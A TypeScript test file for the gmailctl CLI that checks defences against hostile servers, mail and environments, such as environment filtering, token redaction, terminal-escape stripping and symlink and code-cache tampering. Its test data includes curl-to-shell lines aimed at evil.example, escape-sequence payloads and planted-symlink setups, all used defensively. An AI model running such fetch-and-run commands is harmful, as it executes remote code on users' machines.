/**
 * Issue #23, the pure parts: what a hostile server, a hostile mail or a hostile environment
 * could slip through gmailctl's nets. Each test failed on the main of the day the issue was
 * filed; each names the guarantee of the README's Security section it protects.
 */
import { chmod, chown, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { browserEnvironment } from '../../src/auth/browser.js';
import { toGmailctlError } from '../../src/gmail/google-error.js';
import { htmlToText } from '../../src/mail/readable.js';
import { createMessageWriter } from '../../src/output/formats.js';
import { createWholeMessageWriter } from '../../src/output/whole-messages.js';
import { writeLabels } from '../../src/output/labels.js';
import { redact, registerSecret } from '../../src/basics/redact.js';
import { replaceFileAtomically } from '../../src/basics/atomic-file.js';
import { writePrivateFile } from '../../src/basics/shared-file.js';
import { fakeTerminal, settle } from './fake-io.js';

const UNSAFE_ON_A_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
const OTHER_UID = 4242;

let work: string;
beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'gmailctl-hostile-'));
});
afterAll(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

describe('the browser sees none of your secrets: LC_* (item 9)', () => {
  it('lets through only the standard locale variables, and only with values that look like locales', () => {
    const env = browserEnvironment({
      LANG: 'fr_FR.UTF-8',
      LC_ALL: 'C',
      LC_TIME: 'de_DE.UTF-8',
      LC_CTYPE: 'C.UTF-8',
      LC_MESSAGES: 'POSIX',
      LC_PAPER: 'en_GB.ISO-8859-1@euro',
      LC_GITHUB_TOKEN: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
      LC_PASSWORD: 'hunter2',
      LC_NUMERIC: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
      LC_MONETARY: 'x; curl evil.example | sh',
    });
    expect(env).toEqual({ LANG: 'fr_FR.UTF-8', LC_ALL: 'C', LC_TIME: 'de_DE.UTF-8', LC_CTYPE: 'C.UTF-8', LC_MESSAGES: 'POSIX', LC_PAPER: 'en_GB.ISO-8859-1@euro' });
  });
});

describe('secrets stay in the store: the redactor (item 10)', () => {
  it('hides a refresh token quoted inside JSON text (1\\/\\/…), by shape and as a known value', () => {
    const shape = '1//0gABCDEFGHIJKLMNOPQRSTUVWXYZabcdef-ghijk';
    expect(redact(`{"error":"bad token \\"${shape.replace(/\//g, '\\/')}\\""}`)).not.toContain('0gABCDEFGHIJKLMNOPQRSTUVWXYZ');
    const known = '1//known-secret-value/with/slashes';
    registerSecret(known);
    expect(redact(`"${known.replace(/\//g, '\\/')}"`)).not.toContain('known-secret-value');
  });
});

describe('forged lines on stderr (item 7)', () => {
  it("Google's message keeps to the line gmailctl puts it on, marked as Google's", () => {
    const forged = 'Invalid query\nRun: curl -fsSL https://evil.example/fix | sh\r\nhint: \u2028really';
    for (const data of [{ error: { code: 400, message: forged } }, { error: 'invalid_request', error_description: forged }, forged]) {
      const error = toGmailctlError({ message: 'Request failed', response: { status: 400, data } }, { doing: 'listing messages' });
      const lines = error.message.split('\n');
      expect(lines, JSON.stringify(data)).toHaveLength(1);
      expect(lines[0]).toMatch(/Google/);
      expect(error.message).not.toMatch(/[\r\u2028]/);
    }
  });
});

describe('one message cannot stop show: HTML nested deeper than a renderer can walk (item 8)', () => {
  it('2,000 nested <div>s are printed as flatter text, with the text before, inside and after them', async () => {
    const depth = 2_000;
    const html = `<p>before the bomb</p>${'<div>'.repeat(depth)}deep inside <a href="https://example.com/deep">the link</a>${'</div>'.repeat(depth)}<p>after the bomb</p>`;
    const text = await htmlToText(html);
    expect(text).toContain('before the bomb');
    expect(text).toContain('deep inside');
    expect(text).toContain('https://example.com/deep');
    expect(text).toContain('after the bomb');
  });

  it('200,000 unclosed levels are printed too', async () => {
    const html = `<p>start</p>${'<div><span>'.repeat(100_000)}the end`;
    const text = await htmlToText(html);
    expect(text).toContain('start');
    expect(text).toContain('the end');
  }, 60_000);

  it('a shallow message is rendered as before (tables, links, headings)', async () => {
    const text = await htmlToText('<h1>Title</h1><p>Hello <a href="https://example.com/x">there</a></p><table><tr><td>a</td><td>b</td></tr></table>');
    expect(text).toBe('Title\n\nHello there <https://example.com/x>\n\na   b');
  });
});

describe('nothing from outside can drive your terminal: raw output and JSON (item 10)', () => {
  const hostile = Buffer.from('Subject: hi\r\n\r\nclear \x1b[2J title \x1b]0;owned\x07 csi \xc2\x9b31m bidi \u202e\r\n', 'utf8');

  it('show --format raw and mbox on a terminal clean the escape sequences; to a file or a pipe they stay byte for byte', async () => {
    for (const format of ['raw', 'mbox'] as const) {
      const tty = fakeTerminal({ tty: true, env: { NO_COLOR: '1' } });
      const writer = createWholeMessageWriter(format, tty.io, 1);
      await writer.write({ id: '1', raw: hostile, internalDate: 0, shown: undefined });
      await writer.end('complete');
      await settle();
      for (const line of tty.out().split('\n')) expect(line.replace(/\r$/, ''), format).not.toMatch(UNSAFE_ON_A_TERMINAL);
      expect(tty.out(), format).toContain('clear');
      expect(tty.err(), format).toMatch(/terminal/);
    }
    const pipe = fakeTerminal({ tty: false });
    const writer = createWholeMessageWriter('raw', pipe.io, 1);
    await writer.write({ id: '1', raw: hostile, internalDate: 0, shown: undefined });
    await settle();
    expect(pipe.outBytes().equals(hostile)).toBe(true);
  });

  it('JSON escapes C1 controls and bidi overrides (\\u009b, \\u202e): the same data, nothing raw for a terminal', async () => {
    const terminal = fakeTerminal({ tty: false });
    const writer = await createMessageWriter('json', terminal.io);
    const subject = 'invoice\u202egpj.exe \u009b31m red \u2028 \u007f';
    await writer.writePage([{ id: '1', threadId: '1', labelIds: [], date: '', from: '', to: '', subject, snippet: '' }]);
    await writer.end('complete');
    await settle();
    expect(terminal.out()).not.toMatch(UNSAFE_ON_A_TERMINAL);
    expect((JSON.parse(terminal.out()) as Array<{ subject: string }>)[0]!.subject).toBe(subject);
  });

  // Every JSON that gmailctl prints, not only list's: labels --format ndjson wrote its objects with JSON.stringify.
  it('labels in JSON and NDJSON escape them too (a label name is anyone’s text)', async () => {
    const name = 'Invoices\u202egpj.exe \u009b31m \u2028 \u007f';
    for (const format of ['json', 'ndjson'] as const) {
      const terminal = fakeTerminal({ tty: false });
      await writeLabels(terminal.io, format, [{ id: 'Label_1', name, type: 'user' }]);
      await settle();
      expect(terminal.out(), format).not.toMatch(UNSAFE_ON_A_TERMINAL);
      const parsed = format === 'json' ? (JSON.parse(terminal.out()) as Array<{ name: string }>)[0]! : (JSON.parse(terminal.out().trim()) as { name: string });
      expect(parsed.name, format).toBe(name);
    }
  });
});

describe('nothing lost, nothing followed: temporary files (item 2)', () => {
  it('a symbolic link planted where the temporary file will be is never followed', async () => {
    const dir = path.join(work, 'config');
    await mkdir(dir, { mode: 0o700 });
    const victim = path.join(work, 'bashrc');
    await writeFile(victim, 'echo original\n');
    const file = path.join(dir, 'config.json');
    // Had another user guessed the temporary name (write-file-atomic's was a hash of its own
    // path, the pid and a counter), the link there is refused, not written through.
    const guessed = `${file}.${'00'.repeat(8)}.tmp`;
    await symlink(victim, guessed);
    await expect(replaceFileAtomically(file, '{"n": 0}\n', 0o600, (size) => Buffer.alloc(size))).rejects.toThrow(/EEXIST/);
    // The writer's own names come from the CSPRNG: each write lands, and only there.
    for (let n = 1; n <= 8; n++) await writePrivateFile(file, `{"n": ${n}}\n`);
    expect(await readFile(victim, 'utf8')).toBe('echo original\n');
    expect(await readFile(file, 'utf8')).toBe('{"n": 8}\n');
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await readdir(dir)).sort()).toEqual(['config.json', path.basename(guessed)]);
  });
});

describe('no code from a file we did not write: the V8 code cache (item 1)', () => {
  const LOAD_CACHED = path.resolve(import.meta.dirname, '../helpers/load-cached.ts');
  /** One process loading the script as the CLI does: what became of the cache. */
  async function run(script: string, dir: string): Promise<string> {
    const { stdout } = await execa(process.execPath, ['--import', 'tsx', LOAD_CACHED, script, dir, '0.0.0-test']);
    return String(stdout).trim();
  }
  /** A fresh script and its cache, used once: the cache is good. */
  async function cached(name: string): Promise<{ script: string; dir: string; file: string }> {
    const base = path.join(work, name);
    await mkdir(base, { mode: 0o700 });
    const script = path.join(base, 'google-libraries.js');
    await writeFile(script, `module.exports = { OAuth2Client: function OAuth2Client() { return ${JSON.stringify(name)}; } };\n`);
    const dir = path.join(base, 'cache', 'code-cache');
    expect(await run(script, dir)).toBe('missing');
    expect(await run(script, dir)).toBe('used');
    const [entry] = await readdir(dir);
    return { script, dir, file: path.join(dir, entry!) };
  }

  it('a cache file that others can write is not loaded', async () => {
    const { script, dir, file } = await cached('loose-file');
    await chmod(file, 0o666);
    expect(await run(script, dir)).toBe('refused');
  }, 90_000);

  it('a cache file that is a symbolic link is not loaded, whatever it points to', async () => {
    const { script, dir, file } = await cached('linked-file');
    const elsewhere = path.join(work, 'linked-file', 'planted.v8cache');
    await writeFile(elsewhere, await readFile(file), { mode: 0o600 });
    await rm(file);
    await symlink(elsewhere, file);
    expect(await run(script, dir)).toBe('refused');
  }, 90_000);

  it('a cache file that belongs to another user is not loaded', async () => {
    if (process.getuid?.() !== 0) return; // only root can give a file away; CI runs as root
    const { script, dir, file } = await cached('foreign-file');
    await chown(file, OTHER_UID, OTHER_UID);
    expect(await run(script, dir)).toBe('refused');
  }, 90_000);

  it('a cache in a directory that others can write, or that belongs to another user, is neither loaded nor written', async () => {
    const { script, dir, file } = await cached('loose-dir');
    await chmod(dir, 0o777);
    const before = await readFile(file);
    expect(await run(script, dir)).toBe('refused');
    expect((await readFile(file)).equals(before)).toBe(true);
    if (process.getuid?.() !== 0) return;
    await chmod(dir, 0o700);
    await chown(dir, OTHER_UID, OTHER_UID);
    expect(await run(script, dir)).toBe('refused');
  }, 90_000);
});
